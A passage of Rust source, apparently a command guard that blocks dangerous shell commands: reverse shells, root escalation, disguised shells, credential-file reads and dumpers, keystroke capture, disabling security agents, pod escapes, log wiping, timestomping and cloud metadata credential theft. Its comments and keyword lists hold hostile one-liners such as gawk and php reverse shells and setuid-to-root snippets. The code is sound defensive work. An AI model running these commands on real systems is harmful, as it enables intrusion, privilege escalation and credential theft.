    (&["nvim"], &["-S", "-u", "-l"]),
    (&["vim", "vi", "gvim", "view", "vimdiff", "ex"], &["-S", "-u"]),
    (&["emacs"], &["--script", "-l", "--load", "-script"]),
    (&["cmake"], &["-P", "-C"]),
    (&["psql"], &["-f", "--file"]),
    (&["sqlite3", "sqlite"], &["-init", "--init"]),
    (&["pwsh", "powershell"], &["-File", "-f", "-file"]),
    (&["crash"], &["-i"]),
    (&["ctest"], &["-S", "-SP"]),
    (&["ninja", "samu"], &["-f"]),
    (&["ant"], &["-f", "-buildfile", "-file"]),
    (&["mvn", "mvnw"], &["-f", "--file"]),
    (&["gradle", "gradlew"], &["-b", "--build-file", "-c", "--settings-file"]),
    (&["rake"], &["-f", "--rakefile"]),
    (&["just"], &["--justfile", "-f"]),
    (&["task", "go-task"], &["--taskfile", "-t"]),
    (&["perf"], &["-s", "--script"]),
    (&["dtrace"], &["-s"]),
    (&["tcc"], &["-run"]),
    (&["tcpdump"], &["-z"]),
    // An OpenVPN configuration names scripts it runs (`up`, `down`, `route-up`).
    (&["openvpn"], &["--config"]),
];

/// Extensions of files that hold code a program may run or load: scripts of the shells and
/// interpreters, and the plugin formats of tools that run them (nmap's `.nse`, cowsay's
/// `.cow`, COBOL sources `cobc -j` runs).
const CODE_EXTENSIONS: &[&str] = &[
    "sh", "bash", "zsh", "py", "rb", "pl", "pm", "lua", "js", "mjs", "cjs", "php", "tcl", "nse", "cow", "cob", "cbl",
    "r", "jl", "scm", "el", "vim", "awk", "groovy", "kts", "ps1", "ts", "java", "exp", "sed", "mk", "go", "rs", "exs",
    "hs", "swift", "csx", "fsx", "cmake", "bt", "stp", "m4", "dart", "cr", "nim", "zig", "raku", "kt", "scala", "pp",
];

/// Programs that handle files as files (copy, move, own, hash, remove, edit): a script among
/// their operands is data to them.
const FILE_HANDLERS: &[&str] = &[
    "cp", "mv", "rm", "ln", "install", "chmod", "chown", "chgrp", "chattr", "touch", "tee", "dd", "rsync", "scp",
    "shred", "truncate", "setfacl", "vi", "vim", "nano", "emacs", "sed", "ed",
];

/// Whether `text` names a shared library (`x.so`, `x.so.1`) in one of `places`.
fn names_library_in(text: &str, cwd: Option<&Path>, workspace: &Path, places: &[Place]) -> bool {
    let library = |p: &str| {
        let file = p.rsplit('/').next().unwrap_or(p).to_ascii_lowercase();
        (file.ends_with(".so") || file.contains(".so.") || file.ends_with(".dylib"))
            && places.contains(&place_of(p, cwd, workspace))
    };
    // Absolute and home paths anywhere in the text; a relative one (`./x.so`, `../x.so`,
    // `build/x.so`, `$PWD/x.so`) as a whole word or an option's value.
    let relative = || {
        let word = text.rsplit_once(['=', ':']).map_or(text, |(_, v)| v);
        let word = ["$PWD/", "${PWD}/", "$(pwd)/", "`pwd`/"]
            .iter()
            .find_map(|d| word.strip_prefix(d))
            .unwrap_or(word);
        !word.starts_with(['/', '~', '-']) && library(word)
    };
    let lower = text.to_ascii_lowercase();
    (lower.contains(".so") || lower.contains(".dylib")) && (paths_in(text).iter().any(|p| library(p)) || relative())
}

/// `gawk 'BEGIN {s = "/inet/tcp/0/HOST/PORT"; ... |& s}'`, `julia -e 'sock=connect(..);
/// run(..)'`, `php -r '$sock=fsockopen(..);exec("/bin/sh ..")'`: inline code that opens a
/// connection and runs what comes through it.
fn inline_reverse_shell(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    // `grep -rn 'new Socket(.*/bin/sh' src/`: code searched for runs nowhere.
    if super::payload::only_looks(cmd.name()) {
        return;
    }
    const CONNECT: &[&str] = &[
        "/inet/tcp",
        "/inet/udp",
        "/dev/tcp/",
        "/dev/udp/",
        "fsockopen",
        "socket.socket",
        "socket(",
        "tcpsocket",
        "net.connect",
        "net.socket",
        "connect(",
        "sockets",
        "io::socket",
        "java.net.socket",
        // R: `socketConnection(HOST, PORT)`.
        "socketconnection",
        "new socket(",
        "tcp()",
        "tcpclient",
        "socket.tcp",
        "s.tcp(",
        "bind(",
        "accept(",
        "listen(",
        "ztcp ",
        // Tcl: `[socket HOST PORT]`.
        "[socket ",
    ];
    const RUN: &[&str] = &[
        "/bin/sh",
        "/bin/bash",
        "cmd.exe",
        "exec(",
        "spawn(",
        "popen(",
        "system(",
        "processbuilder",
        "child_process",
        "subprocess",
        "os.execute",
        "io.popen",
        "run(`",
        "pty.spawn",
        "shell_exec",
        "passthru",
        "|&",
        "getruntime",
        "dup2",
        // Perl: `STDIN->fdopen($c, "r")`, the standard streams bound to the socket.
        "fdopen(",
        "readline(sock",
        ">&$reply",
        // Tcl: `exec $line`, `[eval $e]` run what was read.
        "exec $",
        "eval $",
    ];
    static CONNECTS: Needles = Needles::ignoring_case(CONNECT);
    static RUNS: Needles = Needles::ignoring_case(RUN);
    // Code, not a word: statements are separated by spaces, lines or `;`.
    let code = cmd.argv[1..]
        .iter()
        .chain(cmd.stdin_text.iter())
        .find(|t| t.contains([' ', '\n', ';']) && CONNECTS.found_in(t) && RUNS.found_in(t));
    if code.is_some() {
        out.push(block(
            Category::Network,
            crate::guard::rules::network::REVERSE_SHELL,
            Risk::Critical,
            cmd,
            "inline code that connects out and runs what comes back: a reverse shell",
        ));
    }
}

/// What an inline program does that has no shell spelling (its other effects are carried as
/// shell commands and judged as such): a command or code it decodes, decompresses, reverses,
/// builds from char codes or downloads, and runs unread (`exec(b64decode(..))`,
/// `system(pack("H*", ..))`, `https.get(URL, r => .. eval(d))`, a downloaded file run); a fork
/// in an endless loop; a program made to start at every login.
fn inline_code(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    use crate::guard::carriers::code::{reading, Fact};
    let Some(reading) = reading(cmd) else {
        return;
    };
    for fact in &reading.facts {
        out.push(match fact {
            Fact::RunsHidden { how, code } => block(
                Category::RemoteExecution,
                crate::guard::rules::remote_execution::EVAL_DOWNLOAD,
                Risk::Critical,
                cmd,
                format!(
                    "inline code runs {} it does not show ({how}): nobody read what runs",
                    if *code { "code" } else { "a command" }
                ),
            ),
            Fact::ForkLoop => block(
                Category::Process,
                crate::guard::rules::process::FORK_BOMB,
                Risk::Critical,
                cmd,
                "a fork bomb: inline code that forks in an endless loop",
            ),
            Fact::LoginItem => block(
                Category::Persistence,
                SCHEDULED,
                Risk::High,
                cmd,
                "makes a program start at every login (a login item)",
            ),
        });
    }
}

/// `perl -e 'POSIX::setuid(0); exec "/bin/sh"'`, `node -e 'process.setuid(0); ...'`, `gdb -ex
/// 'python import os; os.setuid(0)'`: inline code that makes itself root. It works only where the
/// interpreter holds a capability or a set-user-ID bit, and then it is the escalation.
fn inline_setuid(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let code = cmd.argv[1..].iter().chain(cmd.stdin_text.iter());
    if code.into_iter().any(|t| sets_id_zero(t)) {
        out.push(block(
            Category::Privilege,
            ROOT_SHELL,
            Risk::Critical,
            cmd,
            "inline code that sets its user or group ID to 0: an escalation to root through a capability or a set-user-ID interpreter",
        ));
    }
}

/// Whether `text` calls `setuid(0)`, `setreuid(0, 0)`, `setresgid(0,0,0)`, `seteuid( 0 )` and the
/// like, in any language.
fn sets_id_zero(text: &str) -> bool {
    // Most words name no id at all: look closer only where one is called.
    if !crate::guard::ascii::contains_lowercase(text, "id(") && !crate::guard::ascii::contains_lowercase(text, "id (") {
        return false;
    }
    crate::guard::ascii::with_lowercase(text, sets_id_zero_lowercase)
}

fn sets_id_zero_lowercase(l: &str) -> bool {
    let mut rest = l;
    while let Some(at) = rest.find("set") {
        let tail = &rest[at + 3..];
        let tail = tail
            .strip_prefix("res")
            .or_else(|| tail.strip_prefix("re"))
            .or_else(|| tail.strip_prefix('e'))
            .unwrap_or(tail);
        if let Some(args) = tail.strip_prefix("uid").or_else(|| tail.strip_prefix("gid")) {
            let args = args.trim_start_matches([' ', '(']);
            if args.starts_with('0') && !args[1..].starts_with(|c: char| c.is_ascii_alphanumeric()) {
                return true;
            }
        }
        rest = &rest[at + 3..];
    }
    false
}

/// `ruby -run -e httpd . -p 80`, `python -c '..TCPServer(("", 8443), ..)..'`: a file server
/// started from inline code, on every interface.
fn inline_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let un_httpd = cmd.argv.iter().any(|a| a == "-run") && cmd.argv.iter().any(|a| a == "httpd");
    let loopback = cmd
        .argv
        .iter()
        .any(|a| a.contains("127.0.0.1") || a.contains("localhost") || a.contains("::1"));
    let code = cmd.argv[1..]
        .iter()
        .filter(|t| crate::guard::ascii::contains_lowercase(t, "server("))
        .any(|t| {
            let l = t.to_ascii_lowercase().replace(' ', "");
            l.contains("server((\"\",")
                || l.contains("server(('',")
                || l.contains("server((\"0.0.0.0\"")
                || l.contains("server(('0.0.0.0'")
        });
    if loopback {
        return;
    }
    // Spelled out (`("", 8000)`, `("0.0.0.0", 80)`): the files are handed to every host on
    // purpose, with no authentication (block). `ruby -run -e httpd` listens everywhere only
    // by its default (warned, like `python -m http.server`).
    if code || (un_httpd && crate::guard::rules::network::served_as_root(cmd)) {
        out.push(block(
            Category::Network,
            OPEN_SERVICE,
            Risk::High,
            cmd,
            "serves files from inline code to every host on the network, with no authentication",
        ));
    } else if un_httpd {
        out.push(warn(
            Category::Network,
            OPEN_SERVICE,
            cmd,
            "serves files from inline code on every interface: anyone who reaches this machine can fetch them",
        ));
    }
}

/// Editors handed a file: what they save is written. A place the system runs commands from or
/// a git hook is planted (block); a startup file, kernel state or a system file is warned.
fn edited(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    const EDITORS: &[&str] = &[
        "vi", "vim", "nvim", "view", "nano", "pico", "emacs", "ed", "ex", "micro", "joe", "mcedit", "kak", "hx",
        "helix", "gedit", "kate", "sudoedit", "vipw", "vigr", "visudo",
    ];
    // `visudo -c`, `visudo -cf FILE`: checks the syntax, saves nothing.
    if !EDITORS.contains(&cmd.name())
        || (cmd.name() == "visudo" && crate::guard::rules::privilege::args_check_only(cmd))
    {
        return;
    }
    let cwd = cmd.cwd.as_deref();
    for path in cmd.argv[1..].iter().filter(|a| !a.starts_with(['-', '+'])) {
        let place = place_of(path, cwd, ctx.workspace);
        let system = path.starts_with("/etc/") || path.starts_with("/root/") || path.starts_with("/boot/");
        let (rec, what) = match place {
            Place::Persistence => (
                Recommendation::Block,
                "a place the system runs commands or takes its accounts from",
            ),
            Place::VcsHooks => (Recommendation::Block, "a git hook"),
            Place::Startup => (Recommendation::Warn, "a startup file"),
            Place::Kernel => (Recommendation::Warn, "kernel state"),
            _ if system => (Recommendation::Warn, "a system file"),
            _ => continue,
        };
        out.push(violation(
            Category::Privilege,
            SYSTEM_STATE,
            rec,
            if rec == Recommendation::Block {
                Risk::High
            } else {
                Risk::Medium
            },
            &cmd.display(),
            format!("opens {path} ({what}) in an editor, which writes what it saves"),
        ));
        return;
    }
}

/// A command word that is no program but keystrokes for the interactive program before it
/// (`s/etc/sudoers.d/x` typed into `less`, which saves the text there): a place the system runs
/// commands from, or a startup file, named inside it is written.
fn keystrokes(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let word = &cmd.argv[0];
    if word.starts_with(['/', '.', '~']) || !word.contains('/') {
        return;
    }
    let cwd = cmd.cwd.as_deref();
    for (at, _) in word.match_indices(['/', '~']).filter(|(at, _)| *at > 0) {
        let path = &word[at..];
        if matches!(
            place_of(path, cwd, ctx.workspace),
            Place::Persistence | Place::VcsHooks | Place::Startup
        ) {
            out.push(block(
                Category::Persistence,
                SCHEDULED,
                Risk::High,
                cmd,
                format!("keystrokes for an interactive program that save text to {path}"),
            ));
            return;
        }
    }
}

/// `sh -p`, `bash -p`, `X /bin/sh -p`: a shell told to keep set-user-ID privileges, which only
/// matters when escalating through a setuid program.
fn privileged_shell(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let shell = |w: &str| crate::guard::carriers::is_shell(crate::guard::basename(w));
    let direct = shell(&cmd.argv[0])
        && cmd.argv[1..]
            .iter()
            .any(|a| a == "-p" || (is_flag(a, "-p") && !a.contains('c')));
    // `logsave /dev/null /bin/sh -i -p`, `start-stop-daemon -x /bin/sh -- -p`: a shell path
    // handed over, with `-p` among the options that follow it.
    // A pattern to match names against (`find -path ./bin/sh -o ..`) runs nothing.
    let pattern = |k: usize| {
        k > 0
            && matches!(
                cmd.argv[k - 1].as_str(),
                "-path"
                    | "-ipath"
                    | "-name"
                    | "-iname"
                    | "-wholename"
                    | "-iwholename"
                    | "-regex"
                    | "-iregex"
                    | "-lname"
            )
    };
    let handed = cmd.argv.iter().enumerate().any(|(k, w)| {
        shell(w)
            && !pattern(k)
            && w.contains('/')
            && cmd.argv[k + 1..]
                .iter()
                .take_while(|a| a.starts_with('-'))
                .any(|a| a == "-p" || (is_flag(a, "-p") && !a.contains('c')))
    });
    let text = cmd.argv[1..].iter().any(|a| a.contains(" -p") && shell_flag(a, "-p"));
    if direct || handed || text {
        out.push(block(
            Category::Privilege,
            ROOT_SHELL,
            Risk::Critical,
            cmd,
            "starts a shell that keeps set-user-ID privileges (-p): an escalation through a setuid program",
        ));
    }
}

/// `cp /bin/sh /tmp/x/rustc`, `ln -s /bin/sh git-x`, `install -m 4755 /bin/bash ./b`: a shell
/// copied or linked under another name. Whatever runs that name afterwards (a program that
/// runs helpers by name, `sudo` rules written for the name, a setuid bit) runs a shell, and
/// nothing in the command that does it will say so. A copy that keeps a shell's name
/// (`cp /bin/bash rootfs/bin/`, `ln -s /bin/bash /usr/local/bin/bash`) builds a system and
/// passes.
fn disguised_shell(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let shell_binary = |w: &str| {
        let w = w.trim_matches(['"', '\'']);
        let via_lookup = ["$(which ", "$(command -v ", "`which "].iter().any(|p| {
            w.starts_with(p) && crate::guard::carriers::is_shell(w[p.len()..].trim_end_matches([')', '`']).trim())
        });
        // `$SHELL`, `${BASH}`; `/bin/sh`, `../../bin/sh` (a path into a bin directory).
        via_lookup
            || crate::guard::carriers::shell_variable(w)
            || (w.contains("bin/") && crate::guard::carriers::is_shell(crate::guard::basename(w)))
    };
    // `cat /bin/sh > /tmp/x/rustc` copies by redirection; `cp`, `ln`, `install`, ... by their
    // operands (read in one place, `carriers::copied`).
    let Some(copy) = crate::guard::carriers::copied(cmd) else {
        return;
    };
    let disguised = copy
        .pairs
        .iter()
        .find(|(source, dest)| shell_binary(source) && !crate::guard::carriers::is_shell(crate::guard::basename(dest)));
    if let Some((source, dest)) = disguised {
        let new_name = crate::guard::basename(dest);
        out.push(block(
            Category::Privilege,
            DISGUISED_SHELL,
            Risk::High,
            cmd,
            format!("puts a shell ({source}) under another name ({new_name}): whatever runs that name runs a shell"),
        ));
    }
}

/// Whether `text`, a command line kept in a word (`core.sshCommand 'ssh -i ~/.ssh/id_work'`,
/// `rsync -e 'ssh -i ~/.ssh/deploy'`), hands the key at `path` to ssh as its identity
/// (`-i PATH`, `IdentityFile=PATH`): ssh uses the key to log in and prints nothing of it.
fn identity_given(text: &str, path: &str) -> bool {
    let words: Vec<&str> = text.split_whitespace().map(|w| w.trim_matches(['"', '\''])).collect();
    let ssh = words
        .iter()
        .any(|w| matches!(crate::guard::basename(w), "ssh" | "scp" | "sftp" | "autossh"));
    ssh && words.iter().enumerate().any(|(k, w)| {
        let named = |v: &str| v == path;
        (k > 0 && words[k - 1] == "-i" && named(w))
            || w.strip_prefix("-i").is_some_and(named)
            || w.strip_prefix("IdentityFile=").is_some_and(named)
            || w.strip_prefix("-oIdentityFile=").is_some_and(named)
            || (k > 0 && words[k - 1].ends_with("IdentityFile") && named(w))
    })
}

/// Paths inside a larger word: inline programs (`python -c 'open("/etc/ld.so.preload","w")'`,
/// `lua -e 'io.open("/etc/shadow")'`), glued option values (`-oG=/etc/ld.so.preload`,
/// `--extra-opts=@/etc/ssh/ssh_host_ed25519_key`), URLs (`file:///root/.aws/credentials`),
/// editor commands (`.output ~/.bashrc`). A credential file named there is read; a place the
/// system runs commands from, a git hook or kernel state named there is, for all the guard
/// can tell, written.
fn embedded_paths(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    let texts = cmd.argv[1..].iter().chain(cmd.stdin_text.iter());
    // `~/.ssh/id_*.pub`, `/etc/ssh/ssh_host_*.pub`: a glob that names public keys only.
    let public_keys = |t: &str| t.ends_with(".pub") && t.contains(['*', '?', '[']) && !t.contains(char::is_whitespace);
    for text in texts.filter(|t| t.contains('/') && !public_keys(t)) {
        // `--kubeconfig=~/.kube/config`, `KUBECONFIG=~/.kube/config`: a setting that points at
        // a file is judged as that file given whole (the category rules know its owners).
        let bare = text
            .split_once('=')
            .filter(|(k, _)| k.starts_with('-') || crate::guard::is_assignment(text))
            .map(|(_, v)| v)
            .unwrap_or(text)
            .trim_start_matches('@');
        // `/etc/cron.d/`: the word itself, with a trailing slash, is no embedded path.
        let (whole, whole_bare) = (text.trim_end_matches('/'), bare.trim_end_matches('/'));
        for path in paths_in(text) {
            if path == text.as_str() || path == bare {
                continue;
            }
            if crate::guard::rules::secrets::is_credential_path(&path) && !identity_given(text, &path) {
                out.push(block(
                    Category::Secrets,
                    CREDENTIAL_FILE,
                    Risk::High,
                    cmd,
                    format!("reads {path}, a credential file, from inside its arguments"),
                ));
                return;
            }
            // `/etc/passwd` and `/etc/group` are read all the time (user lookups).
            if matches!(path.as_str(), "/etc/passwd" | "/etc/group") || path == whole || path == whole_bare {
                continue;
            }
            let what = match place_of(&path, cwd, ctx.workspace) {
                Place::Persistence => "a place the system runs commands or takes its accounts from",
                Place::VcsHooks => "a git hook",
                Place::Kernel => "kernel state",
                Place::Startup => "a startup file",
                _ => continue,
            };
            out.push(block(
                Category::Persistence,
                SCHEDULED,
                Risk::High,
                cmd,
                format!("names {path} ({what}) inside its arguments, where writing it plants a command"),
            ));
            return;
        }
    }
}

/// The absolute or home paths inside a text: runs of path characters starting with `/` or `~/`
/// (a `file://` scheme's slashes folded), lexically normalised. A path joined to the home
/// directory as a language spells it (`"$ENV{HOME}/.ssh/id_rsa"`, `os.environ["HOME"] +
/// "/.aws/credentials"`, `homedir() + "/.netrc"`) is a home path.
fn paths_in(text: &str) -> Vec<String> {
    let is_path_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '~' | '+' | '-' | '@' | '%');
    let mut out = Vec::new();
    for token in text.split(|c: char| !is_path_char(c)) {
        // The token is a slice of `text`: where it starts is a char boundary.
        let before = &text[..token.as_ptr() as usize - text.as_ptr() as usize];
        let token = token.trim_start_matches('@');
        let homed;
        let token = if token.starts_with("/.") && after_home(before) {
            homed = format!("~{token}");
            homed.as_str()
        } else {
            token
        };
        // `file://~/.netrc`: the scheme's slashes before a home path.
        let token = if token.trim_start_matches('/').starts_with("~/") {
            token.trim_start_matches('/')
        } else {
            token
        };
        let path = if token.starts_with("~/") {
            token.to_string()
        } else if let Some(rest) = token.strip_prefix('/') {
            let folded = format!("/{}", rest.trim_start_matches('/'));
            crate::guard::normalize(Path::new(&folded))
                .to_string_lossy()
                .into_owned()
        } else {
            continue;
        };
        if path.len() > 1 {
            out.push(path);
        }
    }
    out
}

/// Whether `before`, the text up to a path, ends with a language's spelling of the home
/// directory, past the quotes, brackets and `+` that join them (`$ENV{HOME}`,
/// `os.environ["HOME"] + "`, `process.env.HOME + '`, `Sys.getenv("HOME"), "`, `homedir() + "`).
fn after_home(before: &str) -> bool {
    let joined = before
        .trim_end_matches(|c: char| "\"'`{}[]() +,.;".contains(c) || c.is_whitespace())
        .as_bytes();
    // Only the end is compared: every path token asks, and the text before it can be long.
    ["home", "userprofile", "homedir", "home_dir"].iter().any(|name| {
        joined.len() >= name.len() && joined[joined.len() - name.len()..].eq_ignore_ascii_case(name.as_bytes())
    })
}

/// Programs and scripts that dump the credentials a machine holds (password hashes, cached
/// logins, browsers' and tools' saved passwords), by their names without an extension.
const CREDENTIAL_DUMPERS: &[&str] = &[
    "secretsdump",
    "impacket-secretsdump",
    "lsassy",
    "pypykatz",
    "lazagne",
    "mimikatz",
    "mimipenguin",
    "3snake",
    "truffleproc",
    "swap_digger",
    "dploot",
    "donpapi",
];

/// Whether `cmd` runs a credential dumper: one of [`CREDENTIAL_DUMPERS`], as the program or as
/// an interpreter's script (`python3 /tmp/LaZagne/Linux/laZagne.py browsers`), or a lateral
/// movement kit asked for the SAM, LSA secrets or the domain's hashes.
fn dumps_credentials(cmd: &SimpleCommand) -> bool {
    let dumper = |w: &str| {
        let base = crate::guard::basename(w).to_ascii_lowercase();
        // `strip_suffix`, not `trim_end_matches`: this runs on every command, and a string
        // pattern to trim builds a substring searcher each time.
        let stem = [".py", ".sh", ".exe", ".ps1"]
            .iter()
            .fold(base.as_str(), |stem, ext| stem.strip_suffix(ext).unwrap_or(stem));
        CREDENTIAL_DUMPERS.contains(&stem)
    };
    let interpreter = cmd.name().starts_with("python")
        || crate::guard::carriers::is_shell(cmd.name())
        || matches!(cmd.name(), "perl" | "ruby" | "pwsh" | "powershell");
    let script = interpreter
        && cmd.argv[1..]
            .iter()
            .find(|a| !a.starts_with('-'))
            .is_some_and(|a| dumper(a));
    let dump_options = matches!(cmd.name(), "nxc" | "netexec" | "crackmapexec" | "cme")
        && cmd.argv.iter().any(|a| {
            matches!(
                a.as_str(),
                "--sam" | "--lsa" | "--ntds" | "--dpapi" | "lsassy" | "nanodump" | "mimikatz"
            )
        });
    dumper(&cmd.argv[0]) || script || dump_options
}

/// `for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ; done`, `grep -a TOKEN
/// /proc/*/environ`, `dd if=/proc/1234/mem`, `cat /dev/input/event3`: the environment of every
/// process, another process's memory, the machine's memory, or the keyboard's raw events.
fn others_secrets(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let words = cmd.argv[1..].iter().chain(cmd.inputs.iter());
    for w in words {
        let path = w.trim_start_matches("if=");
        let what = if let Some(owner) = path.strip_suffix("/environ") {
            let pid = owner.strip_prefix("/proc/").unwrap_or(owner);
            // `/proc/*/environ`, `/proc/[0-9]*/environ`, `$p/environ` from a listing of /proc.
            let every = pid.contains(['*', '?', '[']) || (owner.starts_with('$') && !owner.contains('/'));
            if !every {
                continue;
            }
            "reads the environment of every process, with the secrets in it"
        } else if (path.starts_with("/proc/") && path.ends_with("/mem") && !path.starts_with("/proc/self/"))
            || matches!(path, "/proc/kcore" | "/dev/mem" | "/dev/kmem" | "/dev/fmem")
        {
            "reads another process's or the machine's memory, with the secrets in it"
        } else if path.starts_with("/dev/input/")
            && is_quiet(cmd.name())
            && !matches!(
                cmd.name(),
                "ls" | "stat" | "file" | "find" | "readlink" | "realpath" | "test" | "["
            )
        {
            out.push(block(
                Category::Secrets,
                INPUT_CAPTURE,
                Risk::Critical,
                cmd,
                "reads the raw events of an input device: the keystrokes typed on this machine",
            ));
            return;
        } else {
            continue;
        };
        out.push(block(Category::Secrets, PROCESS_MEMORY, Risk::Critical, cmd, what));
        return;
    }
}

/// `sudo /var/ossec/bin/wazuh-control stop`, `/etc/init.d/falcon-sensor stop`, `sentinelctl
/// unload`: a security agent's own control program told to stop it.
fn agent_stopped(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    const STOP: &[&str] = &[
        "stop",
        "disable",
        "unload",
        "uninstall",
        "kill",
        "pause",
        "off",
        "--stop",
        "--disable",
        "--uninstall",
        "--unload",
        "stop-all",
    ];
    if super::table::names_agent(&cmd.argv[0]) && cmd.argv[1..].iter().any(|a| STOP.contains(&a.as_str())) {
        out.push(block(
            Category::Network,
            SECURITY_OFF,
            Risk::High,
            cmd,
            "stops a security, audit or monitoring agent",
        ));
    }
}

/// `kubectl run x --overrides='{"spec":{"hostPID":true,..}}'`, `kubectl apply -f - <<EOF` with
/// `privileged: true`: a pod spec that shares the host's namespaces, runs privileged or mounts
/// the host's root: a way out of the cluster's confinement onto the node.
fn pod_escape(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    if !matches!(cmd.name(), "kubectl" | "oc" | "k3s" | "microk8s" | "minikube") {
        return;
    }
    let texts = cmd.argv[1..].iter().chain(cmd.stdin_text.iter());
    for text in texts.filter(|t| t.contains(':')) {
        let spec: String = text
            .chars()
            .filter(|c| !matches!(c, ' ' | '\t' | '"' | '\''))
            .map(|c| {
                if matches!(c, '\n' | '{' | '}' | '[' | ']') {
                    ','
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect();
        let flags = ["hostpid:true", "hostipc:true", "privileged:true"]
            .iter()
            .any(|f| spec.contains(f));
        let host_path = spec.split("hostpath:").skip(1).any(|rest| {
            let value = rest.trim_start_matches(',').strip_prefix("path:").unwrap_or("");
            let value = value.split(',').next().unwrap_or("");
            super::spec::Val::HostMount.holds(value)
        });
        if flags || host_path {
            out.push(block(
                Category::Privilege,
                ESCAPE,
                Risk::Critical,
                cmd,
                "a pod spec that shares the host's namespaces, runs privileged or mounts the host's root",
            ));
            return;
        }
    }
}

/// `find /var/log -name '*.log' -exec truncate -s 0 {} +`, `find /var/log -delete`: every
/// log under the start points emptied or deleted, the record of what was done.
fn find_over_logs(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let own = find_own_words(&cmd.argv);
    let erases = own.contains(&"-delete")
        || cmd.argv.windows(2).any(|w| {
            matches!(w[0].as_str(), "-exec" | "-execdir")
                && matches!(
                    crate::guard::basename(&w[1]),
                    "rm" | "shred" | "unlink" | "truncate" | "srm" | "wipe"
                )
        });
    let cwd = cmd.cwd.as_deref();
    let logs = own
        .iter()
        .skip(1)
        .take_while(|a| !a.starts_with('-') && !a.starts_with('(') && **a != "!")
        .find(|a| place_of(a, cwd, ctx.workspace) == Place::Logs);
    if let Some(dir) = logs.filter(|_| erases) {
        out.push(block(
            Category::Privilege,
            TRACES_ERASED,
            Risk::High,
            cmd,
            format!("empties or deletes the logs under {dir}, the record of what was done"),
        ));
    }
}

/// `touch -r /bin/ls /usr/local/bin/.sshd`, `touch -d '2 years ago' /etc/cron.d/x`: a system
/// file's time stamps forged so a change does not stand out.
fn timestomp(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    const FORGING: &[&str] = &["-r", "--reference", "-d", "--date", "-t"];
    let forged = cmd.argv[1..]
        .iter()
        .any(|a| FORGING.contains(&a.split('=').next().unwrap_or(a)));
    if !forged {
        return;
    }
    let cwd = cmd.cwd.as_deref();
    let mut args = cmd.argv[1..].iter();
    while let Some(a) = args.next() {
        if FORGING.contains(&a.as_str()) {
            args.next();
            continue;
        }
        if a.starts_with('-') {
            continue;
        }
        if matches!(
            place_of(a, cwd, ctx.workspace),
            Place::System | Place::Persistence | Place::Logs | Place::Startup
        ) {
            out.push(block(
                Category::Privilege,
                TRACES_ERASED,
                Risk::High,
                cmd,
                format!("forges the time stamps of {a}, a system file, so a change does not stand out"),
            ));
            return;
        }
    }
}

/// `curl http://169.254.169.254/latest/meta-data/iam/...`, `wget
/// http://metadata.google.internal/...`: the cloud instance's metadata service, which hands
/// out the machine's credentials to whoever asks from inside it.
fn instance_metadata(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    const ENDPOINTS: &[&str] = &[
        "169.254.169.254",
        "metadata.google.internal",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "169.254.170.2",
        "metadata.azure.com",
    ];
    static METADATA_ENDPOINT: Needles = Needles::exact(ENDPOINTS);
    // What the machine says about itself (its region, zone, id, type, addresses) is no
    // credential; everything else (roles, tokens, keys, user data, a bare listing) may be.
    const DESCRIPTIONS: &[&str] = &[
        "region",
        "zone",
        "availability-zone",
        "availability-zone-id",
        "instance-id",
        "instance-type",
        "instance-life-cycle",
        "ami-id",
        "hostname",
        "local-hostname",
        "public-hostname",
        "local-ipv4",
        "public-ipv4",
        "mac",
        "machine-type",
        "cpu-platform",
        "id",
        "name",
        "project-id",
        "numeric-project-id",
        "location",
        "vmsize",
        "vmid",
        "ostype",
    ];
    let asks_secret = |url: &str| {
        let path = url.split(['?', '#']).next().unwrap_or(url).trim_end_matches('/');
        let leaf = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        let credential_words = [
            "cred",
            "token",
            "iam",
            "identity",
            "secret",
            "key",
            "user-data",
            "userdata",
            "attested",
        ]
        .iter()
        .any(|w| crate::guard::ascii::contains_lowercase(path, w));
        url.contains("169.254.170.2") || credential_words || !DESCRIPTIONS.contains(&leaf.as_str())
    };
    if cmd.argv[1..]
        .iter()
        .filter(|a| METADATA_ENDPOINT.found_in(a))
        .any(|a| asks_secret(a))
    {
        out.push(block(
            Category::Secrets,
            CREDENTIAL_FILE,
            Risk::High,
            cmd,
            "asks the cloud instance's metadata service, which hands out the machine's credentials",
        ));
    }
}

/// `grep -ri password /`, `find / -name id_rsa`, `find ~ -name '*.pem'`: searching the whole
/// machine or the home directory for credentials.
fn credential_hunt(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    if !matches!(
        cmd.name(),
        "grep" | "egrep" | "rg" | "ag" | "ack" | "git-secrets" | "find" | "fd" | "locate" | "mlocate"
    ) {
        return;
    }
    const SECRET_WORDS: &[&str] = &[
        "password",
        "passwd",
        "secret",
        "token",
        "api_key",
        "apikey",
        "private key",
        "aws_secret",
        "credential",
    ];
    static SECRET_WORD: Needles = Needles::ignoring_case(SECRET_WORDS);
    const KEY_FILES: &[&str] = &[
        "id_rsa",
        "id_dsa",
        "id_ecdsa",
        "id_ed25519",
        "*.pem",
        "*.key",
        "*.p12",
        "*.pfx",
        "*.kdbx",
        ".git-credentials",
        ".netrc",
        "credentials",
        ".pgpass",
        "*.ovpn",
        "wallet.dat",
        ".npmrc",
        ".pypirc",
        "*.keystore",
        "*.jks",
        ".gnupg",
        ".aws",
